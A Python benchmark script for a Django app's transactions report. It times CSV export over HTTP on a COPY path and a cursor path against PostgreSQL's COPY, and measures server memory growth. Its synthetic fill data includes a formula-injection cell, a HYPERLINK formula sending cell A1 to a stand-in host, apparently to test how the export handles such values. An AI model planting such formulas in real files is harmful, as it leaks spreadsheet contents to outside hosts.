"""CSV export of a large report over HTTP, against PostgreSQL's COPY of the same rows (P4).

Fills the transactions table of a throwaway database (`bench_reports_csv_export`)
with N rows (200,000 with --size small, 1,000,000 with full) in one
INSERT ... SELECT over generate_series, then, in interleaved rounds:
  1. times `COPY (<the report's own SELECT>) TO STDOUT (FORMAT csv)` of the rows
     through psycopg's `cursor.copy()`, reading every block (the baseline);
  2. exports POST /api/v1/reports/transactions-report {"export_type": "csv"}
     through Django's test Client, reading the streamed response block by block
     (the whole file is never held), on both of the engine's CSV paths: `copy`, the
     one PostgreSQL uses (the report's SELECT, cells shaped for CSV in SQL, run as
     COPY and streamed), and `cursor`, the one for reports with masked columns
     (batches from a server-side cursor written by csv.writer), forced here with
     REPORT_CSV_COPY = False;
and gives the medians' ratios (goal: within 3 times the COPY on either path) and
the most this process, the server, grew in memory during any export (goal: under
50 MB).

    .venv/bin/python bench/reports_csv_export.py [--size small|full] [--rows N] [--rounds 3]
"""

import argparse
import gc
import json
import os
import resource
import time

import common
from common import Row

REPORT = "transactions-report"
URL = f"/api/v1/reports/{REPORT}"

FILL = """
INSERT INTO recharge_transaction (
    reference, user_id, category, txn_type, amount, gross_amount, discount_amount, source,
    status, payment_method, service_type, phone_number, plan_id, offer_id, gateway,
    gateway_reference, failure_reason, activation_mode, created_at, updated_at
)
SELECT
    gen_random_uuid(),
    %(first_user)s + (n %% %(users)s),
    CASE WHEN n %% 3 = 0 THEN 'wallet' ELSE 'service' END,
    CASE WHEN n %% 3 = 0 THEN 'credit' ELSE 'debit' END,
    ((n %% 900) + 99)::numeric(14, 2),
    CASE WHEN n %% 3 = 0 THEN NULL ELSE ((n %% 900) + 119)::numeric(14, 2) END,
    CASE WHEN n %% 3 = 0 THEN 0 ELSE 20 END,
    CASE WHEN n %% 3 = 0 THEN 'wallet_topup' ELSE 'recharge' END,
    CASE WHEN n %% 50 = 0 THEN 'failed' ELSE 'success' END,
    CASE WHEN n %% 3 = 0 THEN 'UPI' ELSE 'wallet' END,
    CASE WHEN n %% 3 = 0 THEN '' ELSE 'mobile' END,
    '+9198' || lpad((n %% 100000000)::text, 8, '0'),
    CASE WHEN n %% 3 = 0 THEN NULL ELSE %(plan)s END,
    CASE WHEN n %% 7 = 0 THEN %(offer)s ELSE NULL END,
    CASE WHEN n %% 3 = 0 THEN 'razorpay' ELSE '' END,
    CASE WHEN n %% 3 = 0 THEN 'pay_' || n ELSE '' END,
    -- a cell a spreadsheet would run as a formula, now and then
    CASE WHEN n %% 50 = 0 THEN '=HYPERLINK("http://x.example/?" & A1)' ELSE '' END,
    '',
    now() - (n || ' seconds')::interval,
    now()
FROM generate_series(1, %(rows)s) AS n
"""


def peak_rss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024  # kB on Linux


def rss_mb() -> float:
    """The process's resident memory now (Linux)."""
    with open("/proc/self/statm") as statm:
        return int(statm.read().split()[1]) * os.sysconf("SC_PAGE_SIZE") / 2**20


def fill(rows: int) -> None:
    from datetime import timedelta

    from django.db import connection
    from django.utils import timezone

    from accounts.models import User
    from recharge.models import Offer, OfferType, Plan, PlanGroup

    users = 1000
    User.objects.bulk_create(
        User(
            username=f"sub{n}",
            email=f"sub{n}@example.com",
            first_name="Sub",
            last_name=f"Scriber {n}",
            subscriber_type="prepaid",
            password="!",  # no password: these accounts never sign in
        )
        for n in range(1, users + 1)
    )
    first_user = User.objects.filter(username="sub1").values_list("pk", flat=True).get()
    group = PlanGroup.objects.create(group_name="Bench")
    plan = Plan.objects.create(plan_name="Unlimited 28", group=group, validity=28, price="299.00")
    now = timezone.now()
    offer = Offer.objects.create(
        offer_name="Festive",
        offer_type=OfferType.objects.create(offer_type_name="Festive"),
        offer_validity=30,
        discount_value="20.00",
        valid_from=now - timedelta(days=1),
        valid_to=now + timedelta(days=29),
    )
    with connection.cursor() as cursor:
        cursor.execute(
            FILL,
            {
                "first_user": first_user,
                "users": users,
                "plan": plan.pk,
                "offer": offer.pk,
                "rows": rows,
            },
        )
        cursor.execute("ANALYZE")


def export_over_http(client, body: dict) -> tuple[float, int, int, float, float]:
    """Seconds, bytes and lines of one export, and how much memory grew during it (MB).

    Growth is measured twice: the resident memory sampled at every block against the
    memory before the request, and the growth of the process's peak (ru_maxrss), which
    shows only when the export goes past the peak that setting up had already reached.
    """
    gc.collect()
    before, peak_before = rss_mb(), peak_rss_mb()
    highest = before
    started = time.perf_counter()
    response = client.post(URL, json.dumps(body), content_type="application/json")
    assert response.status_code == 200, (response.status_code, response.content[:500])
    assert response.streaming, "the export must stream"
    size = lines = 0
    for block in response.streaming_content:
        size += len(block)
        lines += block.count(b"\n")
        highest = max(highest, rss_mb())
    response.close()
    seconds = time.perf_counter() - started
    return seconds, size, lines, highest - before, peak_rss_mb() - peak_before


def copy_same_rows(user, body: dict) -> tuple[float, int, int]:
    """Seconds, bytes and lines of COPY (the report's SELECT) TO STDOUT in CSV."""
    from django.db import connection

    from reports import engine
    from reports.registry import REGISTRY

    report = REGISTRY[REPORT]
    request = engine.ReportRequest(report, body)
    rows = engine.queryset_for(report, request, user)
    sql, params = rows.values_list(*(c.path for c in report.columns)).query.sql_with_params()
    started = time.perf_counter()
    size = lines = 0
    with connection.cursor() as cursor:
        copy_sql = (
            f"COPY ({cursor.cursor.mogrify(sql, params)}) TO STDOUT (FORMAT csv, HEADER true)"
        )
        with cursor.cursor.copy(copy_sql) as copy:
            for block in copy:
                size += len(block)
                lines += bytes(block).count(b"\n")
    return time.perf_counter() - started, size, lines


def run(args: argparse.Namespace) -> list[Row]:
    import logging

    from django.conf import settings
    from django.test import Client
    from django.test.utils import setup_test_environment

    from accounts.models import User
    from reports import fetch

    rows = args.rows or {"small": 200_000, "full": 1_000_000}[args.size]
    if args.chunk:
        fetch.CHUNK = args.chunk
    logging.disable(logging.CRITICAL)
    setup_test_environment()
    settings.ALLOWED_HOSTS = ["*"]
    settings.REPORT_ASYNC_THRESHOLD = 10**12  # stream inline, however many rows

    started = time.perf_counter()
    fill(rows)
    print(f"filled {rows:,} transactions in {time.perf_counter() - started:.1f} s")
    analyst = User.objects.create_superuser(
        username="analyst", email="analyst@example.com", password="x" * 16
    )
    client = Client()
    client.force_login(analyst)
    body = {"export_type": "csv", "order_by": "transaction_id"}
    growth = {"copy": 0.0, "cursor": 0.0}

    def baseline() -> float:
        seconds, _, lines = copy_same_rows(analyst, body)
        assert lines == rows + 1, lines
        return seconds

    def export(path: str) -> float:
        settings.REPORT_CSV_COPY = path == "copy"
        seconds, _, lines, resident, _ = export_over_http(client, body)
        assert lines == rows + 1, lines
        growth[path] = max(growth[path], resident)
        return seconds

    for path in growth:  # warm up: imports, first queries
        settings.REPORT_CSV_COPY = path == "copy"
        export_over_http(client, {**body, "limit": 1000})
    samples = common.interleaved(
        {"COPY": baseline, "copy": lambda: export("copy"), "cursor": lambda: export("cursor")},
        args.rounds,
    )
    times = {name: common.median(values) for name, values in samples.items()}
    for name, values in samples.items():
        print(
            f"{name:>7}: median {times[name]:6.2f} s, {rows / times[name]:,.0f} rows/s"
            f"  (rounds: {common.spread(values, 2)})"
        )
    print(f"resident growth during the exports, MB: {growth}; {fetch.CHUNK:,} rows per fetch")
    return [
        Row.at_most(
            "P4",
            f"CSV export over HTTP ({rows:,} rows) / COPY TO STDOUT",
            common.paired_ratio(samples, "copy", "COPY"),
            3,
        ),
        Row.at_most(
            "P4",
            "CSV export, masked-column (cursor) path / COPY TO STDOUT",
            common.paired_ratio(samples, "cursor", "COPY"),
            3,
        ),
        Row.at_most("P4", "server memory growth during an export", max(growth.values()), 50, " MB"),
    ]


def arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--rows", type=int, help="transactions (default by --size)")
    parser.add_argument("--chunk", type=int, help="rows per fetch (reports.fetch.CHUNK)")


if __name__ == "__main__":
    common.main(run, __doc__, name="reports_csv_export", arguments=arguments)
